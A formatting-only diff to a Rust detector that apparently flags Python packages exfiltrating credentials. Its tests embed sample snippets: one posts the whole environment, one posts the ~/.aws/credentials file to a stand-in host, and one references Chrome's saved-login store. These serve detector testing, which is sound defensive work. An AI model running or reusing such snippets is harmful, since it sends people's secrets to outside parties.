@@ -25,10 +25,14 @@ pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
     let Some(facts) = cx.facts else { return };
     let net = cx.has_network();
     for c in &facts.calls {
-        let send = c.is_network()
-            || net && SEND_METHODS.contains(&c.method()) && c.name.contains('.');
+        let send =
+            c.is_network() || net && SEND_METHODS.contains(&c.method()) && c.name.contains('.');
         if send && c.arg_taint() & (CRED | ENV_ALL) != 0 {
-            let what = if c.arg_taint() & CRED != 0 { "credential files" } else { "the whole environment" };
+            let what = if c.arg_taint() & CRED != 0 {
+                "credential files"
+            } else {
+                "the whole environment"
+            };
             out.emit(
                 &INFO,
                 c.ctx.pick(Severity::Critical, Severity::High),
@@ -43,7 +47,9 @@ pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
         if s.docstring {
             continue;
         }
-        let Some(kind) = patterns::cred_store(&s.text) else { continue };
+        let Some(kind) = patterns::cred_store(&s.text) else {
+            continue;
+        };
         let (sev, msg) = match (kind, net) {
             (CredKind::Personal, true) => (
                 s.ctx.pick(Severity::Critical, Severity::High),
@@ -55,8 +61,19 @@ pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
             }
             (CredKind::Developer, _) => (Severity::Low, "developer credential file is referenced"),
         };
-        let sev = if s.ctx == crate::inspect::context::RunContext::Test { Severity::Info.max(crate::inspect::context::lower(sev, 2)) } else { sev };
-        out.emit(&INFO, sev, Confidence::Medium, s.line, msg, s.decoded_via.map(|_| s.text.as_str()).or(s.note.as_deref()));
+        let sev = if s.ctx == crate::inspect::context::RunContext::Test {
+            Severity::Info.max(crate::inspect::context::lower(sev, 2))
+        } else {
+            sev
+        };
+        out.emit(
+            &INFO,
+            sev,
+            Confidence::Medium,
+            s.line,
+            msg,
+            s.decoded_via.map(|_| s.text.as_str()).or(s.note.as_deref()),
+        );
     }
 }
 
@@ -68,19 +85,28 @@ mod tests {
     #[test]
     fn env_dump_posted_is_critical_at_import() {
         let src = "import os, json, urllib.request\ndata = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen('https://x.example.invalid/c', data=data)\n";
-        assert_eq!(worst("credential-exfiltration", "pkg/__init__.py", src), Some(Severity::Critical));
+        assert_eq!(
+            worst("credential-exfiltration", "pkg/__init__.py", src),
+            Some(Severity::Critical)
+        );
     }
 
     #[test]
     fn aws_file_sent_in_function_is_high() {
         let src = "import os, requests\ndef go():\n    p = os.path.expanduser('~/.aws/credentials')\n    body = open(p).read()\n    requests.post('https://x.example.invalid', data=body)\n";
-        assert_eq!(worst("credential-exfiltration", "pkg/a.py", src), Some(Severity::High));
+        assert_eq!(
+            worst("credential-exfiltration", "pkg/a.py", src),
+            Some(Severity::High)
+        );
     }
 
     #[test]
     fn sdk_reading_config_and_env_for_subprocess_is_low() {
         let src = "import os, subprocess\nCRED = os.path.join('~', '.aws', 'credentials')\nP = '~/.aws/credentials'\ndef run():\n    env = dict(os.environ)\n    env['X'] = '1'\n    subprocess.run(['tool'], env=env)\n";
-        assert_eq!(worst("credential-exfiltration", "pkg/a.py", src), Some(Severity::Low));
+        assert_eq!(
+            worst("credential-exfiltration", "pkg/a.py", src),
+            Some(Severity::Low)
+        );
         let tok = "import os, requests\ndef f():\n    return requests.get('https://example.invalid', headers={'Authorization': os.environ['API_TOKEN']})\n";
         assert_eq!(worst("credential-exfiltration", "pkg/a.py", tok), None);
     }
@@ -88,6 +114,9 @@ mod tests {
     #[test]
     fn browser_store_with_network_is_high() {
         let src = "import requests\nLD = r'Google\\Chrome\\User Data\\Default\\Login Data'\n";
-        assert_eq!(worst("credential-exfiltration", "pkg/a.py", src), Some(Severity::Critical));
+        assert_eq!(
+            worst("credential-exfiltration", "pkg/a.py", src),
+            Some(Severity::Critical)
+        );
     }
 }
